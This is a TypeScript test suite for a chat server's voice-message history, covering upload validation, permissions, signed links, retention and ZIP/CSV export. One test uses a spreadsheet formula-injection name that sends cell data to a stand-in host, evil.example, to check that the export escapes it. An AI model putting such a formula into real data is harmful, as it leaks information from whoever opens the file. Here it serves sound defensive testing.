/**
 * Voice history (issue 15): uploads checked by their bytes, who may upload, list, play, delete and export,
 * paging, pushes, the retention sweep and a deleted talker.
 */
import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { startRetentionSweep, sweepExpiredVoice } from '../src/voice/retention.ts';
import { recordPushes, webmOpus } from './chat-fixtures.ts';
import { type Account, createMember, databases, expectNoSecrets, type TestApp } from './harness.ts';
import { oggOpus, unzip, voiceRequests, voiceWorld, wav } from './voice-fixtures.ts';

describe.each(databases)('voice history on %s', (dialect) => {
  const world = voiceWorld(dialect);
  const { voiceDir, storedFiles, grant, uploadVoice, list } = voiceRequests(world);
  let app: TestApp;
  let admin: Account;
  let mia: Account;
  let outsider: Account;
  let channel: { id: number; rtcSession: string };
  beforeEach(() => {
    ({ app, admin, mia, outsider, channel } = world);
  });

  it('keeps a WebM/Opus transmission, lists it, pushes it to the room and serves the same bytes by its signed link', async () => {
    const pushes = recordPushes(app);
    const bytes = webmOpus();
    const startedAt = new Date(Date.now() - 5000).toISOString();
    const sent = await uploadVoice(mia, { startedAt, durationMs: 2150 });
    expect(sent.status).toBe(200);
    expect(sent.body.res).toMatchObject({
      channelId: channel.id,
      userId: mia.id,
      display_name: expect.any(String),
      durationMs: 2150,
      url: expect.stringMatching(/^\/files\/voice\/[0-9a-f]{32}\.webm\?uid=\d+&exp=\d+&sig=/),
    });
    expect(new Date(sent.body.res.createdAt).toISOString()).toBe(startedAt);
    expect(pushes.filter((p) => p.event === 'voiceMessage')).toEqual([
      { to: `room:${channel.rtcSession}`, event: 'voiceMessage', args: [sent.body.res] },
    ]);
    expect(storedFiles()).toHaveLength(1);

    const listed = await list(admin.token);
    expect(listed.status).toBe(200);
    expect(listed.body.res.map((v: { id: number }) => v.id)).toEqual([sent.body.res.id]);
    expectNoSecrets(listed.body);
    const audio = await app.fastify.inject({ method: 'GET', url: listed.body.res[0].url });
    expect(audio.statusCode).toBe(200);
    expect(audio.headers['content-type']).toBe('audio/webm');
    expect(audio.headers['x-content-type-options']).toBe('nosniff');
    expect(audio.rawPayload.equals(bytes)).toBe(true);

    const activities = await app.call('/user/api/getLastActivities/', {}, admin.token);
    // Recorded at the time the transmission started.
    expect(activities.body.res).toContainEqual(
      expect.objectContaining({
        type: 'voice_message',
        channel: { id: channel.id, name: 'Alpha' },
        createdAt: startedAt,
      }),
    );
  });

  it('keeps an all call recorded once in each channel its sender held the floor in, and nowhere else', async () => {
    const create = async (channelName: string) =>
      (await app.call('/user/api/createChannel', { channelName }, admin.token)).body.res as { id: number };
    const [bravo, charlie, delta] = [await create('Bravo'), await create('Charlie'), await create('Delta')];
    for (const other of [bravo, charlie])
      await app.call('/user/api/addUserToChannel', { userId: mia.id, channelId: other.id }, admin.token);
    const at = new Date(Date.now() - 5000);
    // The call took Bravo's floor too, under the call's one grant; Charlie's was refused (someone else held it).
    const grantId = randomUUID();
    await grant(mia.id, at, 2000, 'mesh', bravo, grantId);
    const kept = await uploadVoice(mia, {
      startedAt: at.toISOString(),
      alsoChannelIds: `${bravo.id},${charlie.id}`,
      grantId,
    });
    expect(kept.status).toBe(200);
    const history = async (channelId: number) => (await list(admin.token, { channelId })).body.res;
    const [inAlpha, inBravo, inCharlie] = [
      await history(channel.id),
      await history(bravo.id),
      await history(charlie.id),
    ];
    expect(inAlpha).toHaveLength(1);
    expect(inCharlie).toEqual([]);
    // The same recording, dated alike.
    expect(inBravo).toHaveLength(1);
    expect(inBravo[0]).toMatchObject({ userId: mia.id, createdAt: inAlpha[0].createdAt, durationMs: 2000 });
    const [first, second] = await Promise.all(
      [inAlpha[0].url, inBravo[0].url].map(async (url: string) => (await app.fastify.inject(url)).rawPayload),
    );
    expect(second.equals(first)).toBe(true);

    // A channel it may not talk in: refused, nothing kept anywhere; a list that is not of ids: a 400 naming it.
    const refused = await uploadVoice(mia, { alsoChannelIds: String(delta.id) });
    expect(refused.status).toBe(403);
    expect(await history(channel.id)).toHaveLength(1);
    const bad = await uploadVoice(mia, { alsoChannelIds: `x,${bravo.id}` });
    expect(bad.status).toBe(400);
    expect(bad.body.result).toMatch(/alsoChannelIds/);
  });

  it('accepts Ogg/Opus and refuses a renamed text file, a WAV and an oversized file, writing nothing', async () => {
    expect((await uploadVoice(mia, {}, { bytes: oggOpus(), fileName: 'talk.ogg' })).status).toBe(200);
    const text = await uploadVoice(mia, {}, { bytes: Buffer.from('hello, this is not audio\n'.repeat(20)) });
    expect(text.status).toBe(400);
    expect(text.body.result).toMatch(/Opus/);
    const riff = await uploadVoice(mia, {}, { bytes: wav(), fileName: 'talk.webm', contentType: 'audio/webm' });
    expect(riff.status).toBe(400);
    const big = await uploadVoice(mia, {}, { bytes: webmOpus(80 * 1024) });
    expect(big.status).toBe(413);
    expect(big.body.result).toMatch(/MB/);
    const none = await uploadVoice(mia, {}, null);
    expect(none.status).toBe(400);
    expect((await list(admin.token)).body.res).toHaveLength(1);
    expect(storedFiles()).toHaveLength(1);
  });

  it('checks the fields: a bad time or duration is a 400 naming the field', async () => {
    const badTime = await uploadVoice(mia, { startedAt: 'yesterday' });
    expect(badTime.status).toBe(400);
    expect(badTime.body.result).toMatch(/startedAt/);
    const badDuration = await uploadVoice(mia, { durationMs: 0 });
    expect(badDuration.status).toBe(400);
    expect(badDuration.body.result).toMatch(/durationMs/);
    // A clock ahead of the server's does not put a transmission in the future.
    const ahead = await uploadVoice(mia, { startedAt: new Date(Date.now() + 3600_000).toISOString() });
    expect(new Date(ahead.body.res.createdAt).getTime()).toBeLessThanOrEqual(Date.now());
  });

  it('lets only readers of the channel upload and list, only administrators delete and export', async () => {
    expect((await uploadVoice(undefined)).status).toBe(401);
    const refused = await uploadVoice(outsider);
    expect(refused.status).toBe(403);
    expect(refused.body.result).toBe('You are not a member of this channel.');
    expect(storedFiles()).toHaveLength(0);
    const sent = (await uploadVoice(mia)).body.res;
    expect((await uploadVoice(admin)).status).toBe(200);

    expect((await list(outsider.token)).status).toBe(403);
    expect((await list(mia.token)).body.res).toHaveLength(2);
    // A link signed for a reader who has left the channel no longer plays.
    const link = (await list(mia.token)).body.res[0].url;
    await app.call('/user/api/deleteUserFromChannel', { userId: mia.id, channelId: channel.id }, admin.token);
    expect((await app.fastify.inject({ method: 'GET', url: link })).statusCode).toBe(403);
    const tampered = link.replace(/sig=./, 'sig=A');
    expect((await app.fastify.inject({ method: 'GET', url: tampered })).statusCode).toBe(403);

    const exportBody = {
      channelId: channel.id,
      from: new Date(Date.now() - 3600_000).toISOString(),
      to: new Date(Date.now() + 60_000).toISOString(),
    };
    expect((await app.call('/user/api/exportVoiceMessages', exportBody, mia.token)).status).toBe(403);
    expect((await app.call('/user/api/exportVoiceMessages', exportBody)).status).toBe(401);

    expect((await app.call('/user/api/deleteVoiceMessage', { id: sent.id }, mia.token)).status).toBe(403);
    const pushes = recordPushes(app);
    expect((await app.call('/user/api/deleteVoiceMessage', { id: sent.id }, admin.token)).status).toBe(200);
    expect((await app.call('/user/api/deleteVoiceMessage', { id: sent.id }, admin.token)).status).toBe(404);
    expect(pushes.map((p) => p.event)).toContain('voiceMessageDeleted');
    expect(storedFiles()).toHaveLength(1);
  });

  it('refuses uploads while the channel does not record, and keeps the switch on the channel', async () => {
    const off = await app.call(
      '/user/api/updateChannel',
      { channelId: channel.id, channelName: 'Alpha', recording: false },
      admin.token,
    );
    expect(off.body.res.recording).toBe(false);
    expect((await uploadVoice(mia)).status).toBe(409);
    expect(storedFiles()).toHaveLength(0);
    const created = await app.call('/user/api/createChannel', { channelName: 'Quiet', recording: false }, admin.token);
    expect(created.body.res.recording).toBe(false);
    const plain = await app.call('/user/api/createChannel', { channelName: 'Loud' }, admin.token);
    expect(plain.body.res.recording).toBe(true);
  });

  it('pages newest first by start time, also when a transmission arrives late (the offline outbox)', async () => {
    const base = Date.now() - 60_000;
    const ids: number[] = [];
    for (const offset of [0, 10_000, 20_000, 30_000, 40_000]) {
      ids.push((await uploadVoice(mia, { startedAt: new Date(base + offset).toISOString() })).body.res.id);
    }
    // Recorded offline before all of them, uploaded last.
    const late = (await uploadVoice(mia, { startedAt: new Date(base - 10_000).toISOString() })).body.res.id;
    const first = await list(mia.token, { limit: 4 });
    expect(first.body.res.map((v: { id: number }) => v.id)).toEqual([ids[4], ids[3], ids[2], ids[1]]);
    expect(first.body.hasMore).toBe(true);
    const second = await list(mia.token, { limit: 4, beforeId: ids[1] });
    expect(second.body.res.map((v: { id: number }) => v.id)).toEqual([ids[0], late]);
    expect(second.body.hasMore).toBe(false);
    expect((await list(mia.token, { limit: 0 })).status).toBe(400);
  });

  it('keeps a transmission sent twice with the same clientId once', async () => {
    const once = await uploadVoice(mia, { clientId: 'outbox-0001' });
    const twice = await uploadVoice(mia, { clientId: 'outbox-0001' });
    expect(twice.status).toBe(200);
    expect(twice.body.res.id).toBe(once.body.res.id);
    expect((await list(mia.token)).body.res).toHaveLength(1);
    expect(storedFiles()).toHaveLength(1);
  });

  it('the retention sweep deletes old transmissions, rows and files together, and keeps recent ones', async () => {
    const day = 24 * 3600_000;
    const old = await uploadVoice(mia, { startedAt: new Date(Date.now() - 31 * day).toISOString() });
    const recent = await uploadVoice(mia, { startedAt: new Date(Date.now() - 29 * day).toISOString() });
    expect(storedFiles()).toHaveLength(2);
    expect(app.config.voiceRetentionMs).toBe(30 * day);
    expect(await sweepExpiredVoice(app.services.voice, app.config.voiceRetentionMs)).toBe(1);
    expect((await list(admin.token)).body.res.map((v: { id: number }) => v.id)).toEqual([recent.body.res.id]);
    expect(storedFiles()).toHaveLength(1);
    expect((await app.fastify.inject({ method: 'GET', url: old.body.res.url })).statusCode).toBe(404);
  });

  it('sweeps by itself: soon after start, then every hour', async () => {
    const day = 24 * 3600_000;
    await uploadVoice(mia, { startedAt: new Date(Date.now() - 2 * day).toISOString() });
    vi.useFakeTimers({ toFake: ['setTimeout', 'setInterval'] });
    let stop: () => void = () => {};
    try {
      stop = startRetentionSweep(app.services.voice, day, (error) => {
        throw error;
      });
      vi.advanceTimersByTime(30_000);
    } finally {
      vi.useRealTimers();
    }
    await expect.poll(() => storedFiles().length).toBe(0);
    expect((await list(admin.token)).body.res).toEqual([]);
    stop();
  });

  it('a deleted talker leaves its transmissions, attributed to a deleted user; a deleted channel takes its files', async () => {
    const sent = (await uploadVoice(mia)).body.res;
    expect((await app.call('/user/api/deleteUser', { UserId: mia.id }, admin.token)).status).toBe(200);
    const kept = (await list(admin.token)).body.res;
    expect(kept).toEqual([expect.objectContaining({ id: sent.id, userId: null, display_name: sent.display_name })]);
    expect(storedFiles()).toHaveLength(1);

    await app.call('/user/api/deleteChannel', { channelId: channel.id }, admin.token);
    await expect.poll(() => existsSync(voiceDir())).toBe(false);
  });

  it('deletes a user with its transmissions, rows and files, when the administrator chooses to', async () => {
    await uploadVoice(mia);
    await uploadVoice(admin);
    const deleted = await app.call('/user/api/deleteUser', { UserId: mia.id, deleteVoiceMessages: true }, admin.token);
    expect(deleted.status).toBe(200);
    const left = (await list(admin.token)).body.res;
    expect(left).toEqual([expect.objectContaining({ userId: admin.id })]);
    expect(storedFiles()).toHaveLength(1);
  });

  it("writes a talker named like a formula into index.csv as text (protocol's CSV rule)", async () => {
    const hostile = await createMember(app, admin, {
      firstName: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      lastName: 'Smith',
    });
    const atSign = await createMember(app, admin, { firstName: '@SUM(1+1)', lastName: 'Jones' });
    const startedAt = new Date(Date.now() - 60_000);
    for (const talker of [hostile, atSign])
      await app.services.voice.create({
        channelId: channel.id,
        userId: talker.id,
        mime: 'audio/webm',
        bytes: webmOpus(),
        durationMs: 1000,
        startedAt,
      });
    const response = await app.fastify.inject({
      method: 'POST',
      url: '/user/api/exportVoiceMessages',
      headers: { 'x-access-token': admin.token },
      payload: {
        channelId: channel.id,
        from: new Date(Date.now() - 3600_000).toISOString(),
        to: new Date().toISOString(),
      },
    });
    expect(response.statusCode).toBe(200);
    const index = unzip(response.rawPayload).get('index.csv')?.toString('utf8').trim().split('\r\n') ?? [];
    expect(index).toHaveLength(3);
    const talkers = index.slice(1).map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)[1]);
    expect(talkers.sort()).toEqual(
      [`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"") Smith"`, "'@SUM(1+1) Jones"].sort(),
    );
  });

  it('exports a time range as a zip of the audio files and index.csv', async () => {
    const now = Date.now();
    const inside = (await uploadVoice(mia, { startedAt: new Date(now - 600_000).toISOString() })).body.res;
    await uploadVoice(mia, { startedAt: new Date(now - 7200_000).toISOString() });
    const ogg = (
      await uploadVoice(
        mia,
        { startedAt: new Date(now - 300_000).toISOString(), durationMs: 1500 },
        { bytes: oggOpus() },
      )
    ).body.res;
    const response = await app.fastify.inject({
      method: 'POST',
      url: '/user/api/exportVoiceMessages',
      headers: { 'x-access-token': admin.token },
      payload: { channelId: channel.id, from: new Date(now - 3600_000).toISOString(), to: new Date(now).toISOString() },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/zip');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="voice-Alpha-.*\.zip"$/);
    const entries = unzip(response.rawPayload);
    const index = entries.get('index.csv')?.toString('utf8').trim().split('\r\n') ?? [];
    // Issue 69: a video's lines carry its SHA-256 and who recorded it; a transmission's leave them empty.
    expect(index[0]).toBe('time,talker,duration,file,sha256,source');
    expect(index).toHaveLength(3);
    const files = index.slice(1).map((line) => line.split(',').at(-3) as string);
    expect(files[0]).toMatch(new RegExp(`-${inside.id}\\.webm$`));
    expect(files[1]).toMatch(new RegExp(`-${ogg.id}\\.ogg$`));
    expect(index[2]).toContain(',1.5,');
    expect(entries.get(files[0])?.equals(webmOpus())).toBe(true);
    expect(entries.get(files[1])?.equals(oggOpus())).toBe(true);

    const backwards = await app.call(
      '/user/api/exportVoiceMessages',
      { channelId: channel.id, from: new Date(now).toISOString(), to: new Date(now - 1000).toISOString() },
      admin.token,
    );
    expect(backwards.status).toBe(400);
  });
});
